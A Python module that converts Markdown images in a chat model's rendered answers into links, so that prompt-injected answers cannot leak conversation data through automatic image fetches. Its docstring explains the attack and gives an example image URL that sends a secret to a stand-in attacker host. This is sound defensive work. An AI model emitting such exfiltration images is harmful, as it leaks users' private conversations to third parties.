"""Markdown the pages render without loading anything: images become links.

A model's answer is rendered as Markdown, and a Markdown image is fetched by the browser the
moment it is shown. A prompt-injected answer (from a web page or a document the user pasted)
can therefore leak the conversation without a click: `![](https://evil.example/?q=<secret>)`.
`no_remote_images` turns every image into a link to the same URL (`[image: alt](url)`),
which the browser fetches only if the user clicks it.

Inside what looks like code (a fenced block, a code span) `![` is usually text
(`vec![1, 2]`): there a word joiner (U+2060, invisible) goes between `!` and `[` instead, so
the code reads the same. Telling code from text exactly takes a full CommonMark parser (HTML
blocks, containers, escapes); this module does not need one to be safe: whatever it takes
for code gets the word joiner, which breaks an image just as well, so a wrong guess costs
looks, never a fetch. Pure text in, text out: the pages call it on every render, also on a
streamed answer's text so far, so an image split over chunks never renders either.
"""

from __future__ import annotations

import re
from typing import Final

_FENCE: Final = re.compile(r"^ {0,3}(`{3,}|~{3,})")
JOINER: Final = "\u2060"
_TICKS: Final = re.compile(r"`+")


def no_remote_images(text: str) -> str:
    """`text` with every Markdown image outside code turned into a link."""
    out: list[str] = []
    fence: str | None = None
    for line in text.splitlines(keepends=True):
        opened = _FENCE.match(line)
        if fence is not None:
            if opened and opened.group(1)[0] == fence[0] and len(opened.group(1)) >= len(fence):
                fence = None
            out.append(_break_images(line))
        elif opened:
            fence = opened.group(1)
            out.append(_break_images(line))
        else:
            out.append(_outside_code_spans(line))
    return "".join(out)


def _outside_code_spans(line: str) -> str:
    """Images to links in `line`, except inside code spans (a backtick run and its match)."""
    parts: list[str] = []
    pos = 0
    while pos < len(line):
        ticks = _TICKS.search(line, pos)
        if ticks is None:
            parts.append(_images_to_links(line[pos:]))
            break
        run = len(ticks.group(0))
        close = next((m.start() for m in _TICKS.finditer(line, ticks.end())
                      if len(m.group(0)) == run), -1)
        if close == -1:  # no matching run: the backticks are text
            parts.append(_images_to_links(line[pos:ticks.end()]))
            pos = ticks.end()
            continue
        parts.append(_images_to_links(line[pos:ticks.start()]))
        parts.append(_break_images(line[ticks.start():close + len(ticks.group(0))]))
        pos = close + len(ticks.group(0))
    return "".join(parts)


def _break_images(text: str) -> str:
    """Code as it reads, but no `![` left in it (a word joiner between)."""
    return text.replace("![", "!" + JOINER + "[")


def _images_to_links(text: str) -> str:
    out: list[str] = []
    i = 0
    while i < len(text):
        if text.startswith("![", i) and not _escaped(text, i):
            out.append("[image" + ("" if text.startswith("![]", i) else ": "))
            i += 2
        else:
            out.append(text[i])
            i += 1
    # A `!` just before a converted image (`!![`) would start an image again: break it.
    return "".join(out).replace("![image", "!" + JOINER + "[image")


def _escaped(text: str, i: int) -> bool:
    """Whether the character at `i` is escaped (an odd run of backslashes before it)."""
    run = 0
    while i - run - 1 >= 0 and text[i - run - 1] == "\\":
        run += 1
    return run % 2 == 1
